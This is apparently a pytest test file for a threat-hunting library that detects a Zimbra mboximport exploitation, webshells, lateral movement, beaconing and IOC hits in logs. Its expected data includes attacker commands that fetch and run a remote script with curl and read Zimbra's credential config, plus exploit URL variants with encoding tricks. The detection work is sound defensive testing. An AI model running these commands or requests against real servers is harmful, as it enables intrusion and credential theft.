"""Built-in hunts (``veilleur.hunts``): on the demo collection's planted intrusion, and on
hand-built event tables for the network hunts and the traps of each rule."""

from __future__ import annotations

from datetime import datetime, timedelta, timezone

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import veilleur as vl
from veilleur import hunts

from conftest import DEMO

ATTACKER = "203.0.113.66"
SCANNER = "192.0.2.77"
SHELL = "/zimbraAdmin/public/jsp/Kq3vT8nWz2pLm6Rb.jsp"
SERVER = "10.10.1.5"


def t(hms: str, day: int = 6) -> datetime:
    h, m, s = map(int, hms.split(":"))
    return datetime(2022, 9, day, h, m, s, tzinfo=timezone.utc)


@pytest.fixture(scope="module")
def demo() -> vl.Bundle:
    return vl.read(DEMO, tz="Europe/Paris")


def test_mboximport_every_form_and_401_is_not_failure(demo):
    m = hunts.mboximport(demo.events)
    web = m.filter(pl.col("source") == "zimbra_access").select("ts", "src_ip", "http_method", "http_status", "variant", "outcome")
    assert web.rows() == [
        (t("03:58:14"), ATTACKER, "GET", 401, "no query", "probe"),
        (t("07:40:27"), SCANNER, "POST", 401, "ow=cmd (public PoC)", "uploaded_401"),
        (t("09:14:02"), ATTACKER, "POST", 401, "ow=1&no-switch (in the wild, Volexity)", "uploaded_401"),
        (t("09:14:05"), ATTACKER, "POST", 401, "append (nuclei / Sigma form)", "uploaded_401"),
        (t("09:21:40"), ATTACKER, "POST", 200, "append (nuclei / Sigma form)", "uploaded"),
    ]
    # the nginx proxy saw the same requests; mailbox.log's servlet traces have no status
    assert m.filter(pl.col("source") == "zimbra_nginx").height == 5
    assert set(m.filter(pl.col("source") == "zimbra_mailbox")["outcome"]) == {"trace"}
    # provenance leads back to the line
    row = m.filter((pl.col("source") == "zimbra_access") & (pl.col("ts") == t("09:14:02"))).row(0, named=True)
    assert row["file"].endswith("access_log.2022-09-06") and row["line"] == 91


def test_webshell_first_seen_after_upload_with_commands(demo):
    w = hunts.webshells(demo.events).filter(pl.col("source") == "zimbra_access")
    assert set(w["path"]) == {SHELL}
    assert w["command"].to_list() == [
        "id", "uname -a", "curl http://203.0.113.66/x.sh -o /tmp/x.sh", "sh /tmp/x.sh", "cat /opt/zimbra/conf/localconfig.xml",
    ]
    assert w["first_seen"].unique().to_list() == [t("09:14:09")]
    # the scanner's probe for a JSP that was not there (404) is not a webshell
    assert "/zimbraAdmin/0MVzAe6pgwe5go1D.jsp" not in set(hunts.webshells(demo.events)["path"])


def test_run_on_demo(demo):
    r = hunts.run(demo)
    assert r.mail_server == SERVER
    up = r.exploitation.filter((pl.col("source") == "zimbra_access") & (pl.col("ts") == t("09:14:02")))
    assert up["next_webshell"].to_list() == [SHELL]
    assert up["next_webshell_ts"].to_list() == [t("09:14:09")]
    probe = r.exploitation.filter(pl.col("outcome") == "probe")
    assert probe["next_webshell"].null_count() == probe.height
    roles = {(h, role) for h, role in r.scope.select("host", "role").rows()}
    assert (ATTACKER, "attacker") in roles and (SERVER, "compromised") in roles
    stages = set(r.timeline["stage"])
    assert stages == {"exploitation", "webshell", "admin_login"}
    # the operator's admin console login: a failure then a success, from outside
    assert r.admin_logins.select("ts", "src_ip", "action").rows() == [
        (t("09:29:51") + timedelta(microseconds=2000), ATTACKER, "login_fail"),
        (t("09:30:09") + timedelta(microseconds=118000), ATTACKER, "login_ok"),
    ]
    assert r.timeline["ts"].is_sorted()


def _events(rows: list[dict]) -> pl.DataFrame:
    schema = {
        "file": pl.String, "line": pl.UInt64, "offset": pl.UInt64, "ts": pl.Datetime("us", "UTC"), "source": pl.String,
        "host": pl.String, "src_ip": pl.String, "src_port": pl.UInt16, "dst_ip": pl.String, "dst_port": pl.UInt16,
        "proto": pl.String, "user": pl.String, "action": pl.String, "http_method": pl.String, "url": pl.String,
        "domain": pl.String, "http_status": pl.UInt16, "bytes_in": pl.UInt64, "bytes_out": pl.UInt64,
        "user_agent": pl.String, "message": pl.String,
    }
    full = [{k: r.get(k) for k in schema} for r in rows]
    for i, r in enumerate(full):
        r["file"] = r["file"] or "fw.log"
        r["line"] = r["line"] or i + 1
        r["offset"] = r["offset"] if r["offset"] is not None else i * 100
    return pl.DataFrame(full, schema=schema)


def test_mboximport_path_tricks():
    ev = _events([
        {"ts": t("10:00:00"), "source": "zimbra_nginx", "src_ip": ATTACKER, "http_method": "POST", "http_status": 401,
         "url": "/service/extension/backup/%6Dboximport?account-name=admin&ow=1&no-switch=true"},
        {"ts": t("10:00:01"), "source": "zimbra_nginx", "src_ip": ATTACKER, "http_method": "post", "http_status": 500,
         "url": "https://mail.example.org//service//extension/backup/mboximport"},
        {"ts": t("10:00:02"), "source": "zimbra_nginx", "src_ip": ATTACKER, "http_method": "POST", "http_status": 404,
         "url": "/service/extension/backup/mboximport?account-name=admin"},
        # near misses: another extension, the word in a query, a longer path
        {"ts": t("10:00:03"), "source": "zimbra_nginx", "src_ip": "198.51.100.9", "http_method": "POST", "http_status": 200,
         "url": "/service/extension/zimbraadmin/x?next=/service/extension/backup/mboximport"},
        {"ts": t("10:00:04"), "source": "zimbra_nginx", "src_ip": "198.51.100.9", "http_method": "GET", "http_status": 404,
         "url": "/service/extension/backup/mboximportx"},
    ])
    m = hunts.mboximport(ev)
    assert m.select("line", "outcome").rows() == [(1, "uploaded_401"), (2, "server_error"), (3, "absent")]


def test_lateral_egress_beacons_scope():
    start = t("09:00:00")
    rows = []
    # before the compromise the server talks to its usual external peers
    rows.append({"ts": t("08:00:00"), "source": "fortigate", "src_ip": SERVER, "dst_ip": "198.51.100.25", "dst_port": 25, "action": "allow"})
    rows.append({"ts": t("09:30:00"), "source": "fortigate", "src_ip": SERVER, "dst_ip": "198.51.100.25", "dst_port": 25, "action": "allow"})
    # after: a download from a new address, then beacons every 300 s (two devices log each)
    rows.append({"ts": t("09:10:00"), "source": "fortigate", "src_ip": SERVER, "dst_ip": "203.0.113.80", "dst_port": 80, "action": "allow"})
    for k in range(20):
        ts = t("09:20:00") + timedelta(seconds=300 * k + (k % 3))
        rows.append({"ts": ts, "source": "fortigate", "src_ip": SERVER, "dst_ip": "203.0.113.80", "dst_port": 443, "action": "allow"})
        rows.append({"ts": ts, "source": "squid", "src_ip": SERVER, "dst_ip": "203.0.113.80", "dst_port": 443, "action": "allow"})
    # NTP is periodic too, but not a beacon
    for k in range(20):
        rows.append({"ts": t("09:00:30") + timedelta(seconds=64 * k), "source": "fortigate", "src_ip": SERVER, "dst_ip": "192.0.2.123",
                     "dst_port": 123, "action": "allow"})
    # lateral: SSH allowed, SMB denied; another server's SSH is not the mail server's
    rows.append({"ts": t("09:40:00"), "source": "netfilter", "src_ip": SERVER, "dst_ip": "10.10.3.12", "dst_port": 22, "action": "allow"})
    rows.append({"ts": t("09:41:00"), "source": "fortigate", "src_ip": SERVER, "dst_ip": "10.10.3.20", "dst_port": 445, "action": "deny"})
    rows.append({"ts": t("09:42:00"), "source": "fortigate", "src_ip": "10.10.3.30", "dst_ip": "10.10.3.12", "dst_port": 22, "action": "allow"})
    rows.append({"ts": t("09:43:00"), "source": "fortigate", "src_ip": SERVER, "dst_ip": "10.10.3.21", "dst_port": 389, "action": "allow"})
    ev = _events(sorted(rows, key=lambda r: r["ts"]))

    lat = hunts.lateral(ev, SERVER, start)
    assert lat.select("dst_ip", "dst_port", "action").rows() == [("10.10.3.12", 22, "allow"), ("10.10.3.20", 445, "deny")]

    egr = hunts.egress(ev, SERVER, start)
    assert set(egr["dst_ip"]) == {"203.0.113.80", "192.0.2.123"}  # 198.51.100.25 was known before
    assert egr.filter(pl.col("dst_ip") == "203.0.113.80")["first_contact"].unique().to_list() == [t("09:10:00")]

    b = hunts.beaconing(ev, sources=[SERVER])
    assert b.select("src_ip", "dst_ip", "dst_port").rows() == [(SERVER, "203.0.113.80", 443)]
    assert b["count"].to_list() == [20]
    assert abs(b["period"][0].total_seconds() - 300) < 2


def test_ioc_sweep_and_visitors_in_scope():
    ev = _events([
        {"ts": t("10:00:00"), "source": "squid", "src_ip": "10.20.3.41", "dst_ip": "198.51.100.7", "url": "http://login.evil-hopital.example/a",
         "domain": "login.evil-hopital.example", "action": "allow"},
        {"ts": t("10:05:00"), "source": "squid", "src_ip": "10.20.3.42", "url": "http://notevil-hopital.example/", "domain": "notevil-hopital.example",
         "action": "allow"},
    ])
    iocs = vl.IocSet(["evil-hopital.example"], kind="domain")
    hits, seen = hunts.ioc_sweep(ev, iocs)
    assert set(hits["src_ip"]) == {"10.20.3.41"}
    assert seen["first_seen"].to_list() == [t("10:00:00")]
    r = hunts.run(ev, iocs=iocs, mail_server=SERVER)
    assert r.scope.filter(pl.col("role") == "visited_ioc")["host"].to_list() == ["10.20.3.41"]


@settings(max_examples=200, deadline=None)
@given(
    encode=st.lists(st.booleans(), min_size=len(hunts.MBOXIMPORT), max_size=len(hunts.MBOXIMPORT)),
    upper=st.lists(st.booleans(), min_size=len(hunts.MBOXIMPORT), max_size=len(hunts.MBOXIMPORT)),
    slashes=st.integers(1, 3),
    query=st.sampled_from(["", "?account-name=admin&ow=1&no-switch=true", "?ow=2&no-switch=1&append=1"]),
    tail=st.sampled_from(["", "x", "/", "%78"]),
)
def test_mboximport_found_whatever_is_percent_encoded(encode, upper, slashes, query, tail):
    """Any character of the servlet path written as itself or as %xx (hex in either case), and
    repeated slashes, is still the servlet; one more character after it is not."""
    chars = []
    for c, e, u in zip(hunts.MBOXIMPORT, encode, upper):
        if e:
            h = f"%{ord(c):02x}"
            chars.append(h.upper() if u else h)
        else:
            chars.append(c.upper() if u and c.isalpha() else c)
    path = "".join(chars).replace("/", "/" * slashes)
    ev = _events([{"ts": t("10:00:00"), "source": "zimbra_nginx", "src_ip": ATTACKER, "http_method": "POST",
                   "http_status": 401, "url": path + tail + query}])
    got = hunts.mboximport(ev)
    if tail == "":
        assert got.height == 1 and got["outcome"][0] == "uploaded_401", path
    else:  # `mboximport/`, `mboximportx`: another path
        assert got.height == 0, path + tail
